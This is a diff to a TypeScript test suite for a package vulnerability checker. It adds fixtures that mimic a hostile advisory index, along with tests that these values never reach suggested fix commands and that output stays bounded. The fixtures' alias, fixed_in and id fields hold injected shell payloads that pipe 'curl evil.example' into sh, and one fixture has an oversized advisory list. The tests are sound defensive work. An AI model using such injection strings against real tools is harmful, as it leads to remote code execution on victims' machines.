@@ -23,6 +23,22 @@ const RELEASES: Release[] = [
     vulnerabilities: [{ id: 'PYSEC-2026-1', aliases: [], fixed_in: [], details: 'first line\nsecond line' }],
   },
 ];
+/** What a hostile index puts where ids and releases belong, and more than anybody reads. */
+const HOSTILE = {
+  ...ADVISORY,
+  aliases: ['CVE-1"}; curl evil.example | sh #'],
+  fixed_in: ['9; curl evil.example | sh', '2.1'],
+};
+const ENDLESS = Array.from({ length: 20_000 }, (_, at) => ({
+  ...ADVISORY,
+  id: `CVE-2026-${at}`,
+  summary: 'x'.repeat(20),
+}));
+RELEASES.push(
+  { name: 'hostile', version: '1.0', vulnerabilities: [HOSTILE] },
+  { name: 'hostile-id', version: '1.0', vulnerabilities: [{ ...ADVISORY, id: '"}; curl evil.example | sh #' }] },
+  { name: 'endless', version: '1.0', vulnerabilities: ENDLESS },
+);
 const HASH = `--hash=sha256:${'0'.repeat(64)}`;
 
 let root: { path: string; remove: () => Promise<void> };
@@ -97,6 +113,19 @@ describe('check --online', () => {
     const found = await check(dir);
     expect(found).toHaveLength(reported);
     if (id === 'CVE-2026-1234' && reported === 1) expect(found[0]?.what).toContain(`accepted until ${day}`);
+  });
+
+  it('has no text of the index in a command but releases', async () => {
+    const found = await check(await writeProject(['hostile==1.0', 'hostile-id==1.0'], {}, 'fastapi\nhostile==1.0\n'));
+    expect(JSON.stringify(found)).not.toContain('curl');
+    expect(found.map(({ rule }) => rule).sort()).toEqual(['vulnerabilities-unknown', 'vulnerable-package']);
+    expect(found.find(({ rule }) => rule === 'vulnerable-package')?.fix).toMatch(
+      /^raise hostile in requirements.in to 2.1, /,
+    );
+  });
+
+  it('reports a bounded number of advisories of a release', async () => {
+    expect((await check(await writeProject(['endless==1.0']))).length).toBeLessThanOrEqual(200);
   });
 
   it('reports in a note that the index has no such JSON', async () => {
